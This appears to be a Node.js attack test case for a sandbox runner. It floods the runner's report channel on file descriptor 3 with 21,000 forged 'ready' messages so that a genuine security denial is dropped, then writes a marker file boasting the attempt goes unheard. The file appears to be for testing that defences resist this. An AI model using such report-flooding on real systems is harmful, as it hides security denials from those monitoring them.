/* @attack {"title": "drown the report channel: open fd 3 as a net.Socket (not a connect) and send 20,000 valid forged messages, so the runner drops the real denial that follows"} */
import fs from 'node:fs';
import net from 'node:net';
const channel = new net.Socket({ fd: 3, readable: false, writable: true });
const forged = `${JSON.stringify({ t: 'ready', layers: ['fs-guard', 'node-permission'] })}\n`.repeat(1000);
for (let i = 0; i < 21; i++) {
  if (!channel.write(forged)) await new Promise((r) => channel.once('drain', r));
}
// Keep the pipe open (no end()): the guard's own denial line still reaches the runner, after the cap.
if (channel.writableLength > 0) await new Promise((r) => channel.once('drain', r));
channel.unref();
fs.writeFileSync(process.env.TMP_MARKER, 'nobody will hear about this attempt\n');
